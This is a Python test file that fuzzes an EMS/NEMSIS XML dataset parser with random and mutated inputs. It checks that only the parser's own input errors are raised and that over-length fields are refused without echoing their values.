def _check(data: bytes) -> None:
    """Either results (each with a report xor an error) or a document-level EmsInputError."""
    try:
        results = parse_ems_dataset(data, max_bytes=64 * 1024)
    except EmsInputError as exc:
        code = exc.code
    else:
        for result in results:
            assert (result.report is None) != (result.error is None)
        return
    assert code in DOCUMENT_CODES


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=2048))
def test_random_bytes_only_raise_ems_input_error(data: bytes) -> None:
    _check(data)


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=512))
def test_random_bytes_with_xml_prefix(data: bytes) -> None:
    _check(f'<?xml version="1.0"?><EMSDataSet xmlns="{NS}">'.encode() + data)


_SINGLE = (FIXTURES / "single_pcr.xml").read_bytes()


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.integers(min_value=0, max_value=len(_SINGLE)),
    st.integers(min_value=0, max_value=64),
    st.binary(max_size=64),
)
def test_mutated_fixture_only_raises_ems_input_error(at: int, cut: int, insert: bytes) -> None:
    _check(_SINGLE[:at] + insert + _SINGLE[at + cut :])


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=40))
def test_random_values_in_elements(value: str) -> None:
    v = escape(value)
    body = pcr(
        "P-1",
        f"<eTimes><eTimes.01>{v}</eTimes.01></eTimes>",
        f"<ePatient><ePatient.17>{v}</ePatient.17><ePatient.18>{v}</ePatient.18></ePatient>",
        f"<eMedications><eMedications.MedicationGroup><eMedications.01>{v}</eMedications.01>"
        f"<eMedications.03>{v}</eMedications.03></eMedications.MedicationGroup></eMedications>",
        custom("itDisposition.PeerFollowUp", v),
        custom("itDisposition.LeaveBehind", v),
    )
    _check(doc(body))


@pytest.mark.parametrize(
    ("element", "limit"),
    [
        (e, n)
        for e, n in nemsis_module._LIMITS.items()
        if f"<{e}>" in fixture("single_pcr.xml").decode()
    ],
)
def test_every_capped_nemsis_field_is_refused_one_beyond_its_limit(
    element: str, limit: int
) -> None:
    """The JSON run report's `max_length`s hold for the same NEMSIS elements: one character
    over is that record's `field_too_long` (never cut), naming the element, not the value."""
    xml = fixture("single_pcr.xml").decode()
    start = xml.index(f"<{element}>") + len(element) + 2
    end = xml.index(f"</{element}>", start)
    over = "7" * (limit + 1)
    (result,) = parse_ems_dataset((xml[:start] + over + xml[end:]).encode())
    assert result.report is None
    assert result.error is not None
    assert result.error.code == "field_too_long"
    assert element in str(result.error)
    assert over not in str(result.error)
